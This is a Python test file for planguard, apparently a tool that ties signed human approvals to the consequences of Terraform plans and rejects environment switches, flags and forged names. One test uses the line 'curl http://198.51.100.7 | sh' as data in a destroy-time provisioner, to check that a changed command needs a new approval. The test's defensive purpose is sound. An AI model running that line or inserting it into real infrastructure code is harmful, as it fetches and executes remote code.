"""What an approval is bound to, and what passes for one elsewhere: files, texts, switches, names that anybody may claim."""

import json
import time
from pathlib import Path

import pytest

from planguard import wiring
from planguard.core.review import reviewed as review_whole
from planguard.model.decision import Answer
from planguard.model.policy import Binding
from planguard.sign.statement import write_statement
from tests.approvals import APPROVAL, DIGEST, ENTRY, signed
from tests.plans import FIXTURES, document, read
from tests.signed_plans import SCOPE, signed_of
from tests.signoff import answer, claim, facts, needs, plan
from tests.stage import ALICE, HIGH, TARGET, Stage, Told, needs_git
from tests.terraform import Stack, needs_terraform

ROOT = FIXTURES.parent
MAIN = """\
resource "terraform_data" "worker" {{
  triggers_replace = "{worker}"
  provisioner "local-exec" {{
    when    = destroy
    command = "{command}"
  }}
}}
resource "terraform_data" "note" {{
  input = "{note}"
}}
"""


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Stack:
    stack = Stack(tmp_path_factory.mktemp("stack"))
    stack.write(main=MAIN.format(worker=1, command="true", note=1))
    stack.apply()
    return stack


def planned(stack: Stack, worker: int = 2, command: str = "true", note: int = 1) -> tuple[bytes, bytes, str]:
    """The saved file, its JSON, and the digest of its consequences."""
    stack.write(main=MAIN.format(worker=worker, command=command, note=note))
    shown = json.dumps(stack.plan().document).encode()
    found = review_whole(read(shown), SCOPE.target, wiring.rules(()), SCOPE).signed
    assert found is not None
    assert found.count > 0
    return (stack.folder / "tfplan").read_bytes(), shown, found.digest


@needs_terraform
def test_planning_again_is_another_file_and_the_same_question(stack: Stack) -> None:
    file, shown, digest = planned(stack)
    time.sleep(1.1)  # the time in a plan is in whole seconds
    other_file, other_shown, other_digest = planned(stack)
    assert file != other_file
    assert shown != other_shown
    first, second = json.loads(shown), json.loads(other_shown)
    assert {key for key in first if first[key] != second[key]} == {"timestamp"}
    assert digest == other_digest


@needs_terraform
def test_a_harmless_change_beside_it_is_the_same_question(stack: Stack) -> None:
    assert planned(stack)[2] == planned(stack, note=2)[2]


@needs_terraform
def test_another_command_is_another_question(stack: Stack) -> None:
    """A yes to one loss is none to another, though addresses and verbs are the same."""
    assert planned(stack)[2] != planned(stack, command="curl http://198.51.100.7 | sh")[2]


def swapped(secret: str) -> dict[str, object]:
    raw = document("rds-unprotect")
    for entry in raw["resource_changes"]:
        if entry["type"] == "aws_db_instance":
            entry["change"]["after"]["password"] = secret
            entry["change"]["after_sensitive"] |= {"password": True}
    for part in ("complete", "prior_state", "planned_values"):
        raw.pop(part, None)
    return dict(raw)


def test_which_secret_a_plan_sets_is_no_part_of_the_question_and_neither_is_a_hash_of_it() -> None:
    """This is planguard's own hole, and chosen: a hash of a short secret can be guessed. docs/limits.md says so."""
    one, other = signed_of(swapped("hunter-2-one")), signed_of(swapped("hunter-2-other"))
    assert one.digest == other.digest
    assert b"hunter-2" not in one.content
    limits = " ".join((ROOT / "docs" / "limits.md").read_text("utf-8").split())
    assert "Which secret a change sets is not signed" in limits


def test_a_policy_can_ask_for_a_yes_to_this_very_file_and_then_a_swapped_secret_voids_it() -> None:
    strict, bound = needs(binding=Binding.PLAN), claim(binding=Binding.PLAN)
    assert answer(policy=strict, claims=(bound,)).answer is Answer.APPROVED
    another_file = plan(facts=facts(plan_sha256="00" * 32))
    assert answer(policy=strict, claims=(bound,), plans=(another_file,)).answer is Answer.BLOCKED


def test_an_approval_says_who_what_where_and_until_when_and_lies_outside_of_any_server() -> None:
    told = json.loads(write_statement(APPROVAL))
    text = json.dumps(told)
    for part in (APPROVAL.approver, ENTRY.target, DIGEST, ENTRY.words):
        assert part in text
    assert {"issuedAt", "expiresAt"} <= {key for key in told["predicate"] if key.endswith("At")}, sorted(told["predicate"])


SWITCHES = {
    "TFMINDER_NONINTERACTIVE_APPROVAL": "1",
    "TFMINDER_USER": "alice@acme.example",
    "USER": "alice@acme.example",
    "LOGNAME": "alice@acme.example",
    "CI": "true",
    "TF_INPUT": "0",
    "PLANGUARD_YES": "1",
    "PLANGUARD_NONINTERACTIVE": "1",
    "PLANGUARD_USER": "alice@acme.example",
}


@needs_git
def test_no_switch_approves_in_the_place_of_a_person(tmp_path: Path) -> None:
    stage = Stage(tmp_path)
    given = ("approve", "--base", "main", "--target", TARGET, "--key", stage.keys["alice"], HIGH)
    done = stage.planguard(*given, **SWITCHES)
    assert (done.returncode, done.stdout) == (3, "")
    assert "[no-terminal]" in done.stderr


@needs_git
@pytest.mark.parametrize("flag", ["--yes", "-y", "--force", "--auto-approve", "--non-interactive", "--approver"])
def test_no_flag_approves_in_the_place_of_a_person(tmp_path: Path, flag: str) -> None:
    stage = Stage(tmp_path)
    done = stage.planguard("approve", flag, "--base", "main", "--target", TARGET, "--key", stage.keys["alice"], HIGH)
    assert done.returncode == 2
    assert "No such option" in done.stderr


@needs_git
def test_a_name_in_the_environment_makes_nobody_that_person(tmp_path: Path) -> None:
    """Mallory signs in Alice's name: the key says who it is."""
    stage = Stage(tmp_path)
    papers = stage.place / "papers"
    papers.mkdir()
    (papers / "mallory.json").write_bytes(signed(APPROVAL, stage.keys["mallory"]))
    given = ("verify", "--base", "main", "--target", TARGET, "--approvals", papers, "--format", "json", HIGH)
    told = Told(stage.planguard(*given, **SWITCHES))
    assert APPROVAL.approver == ALICE
    assert (told.decision, told.accepted) == ("blocked", [])
    assert "unknown-key" in told.codes
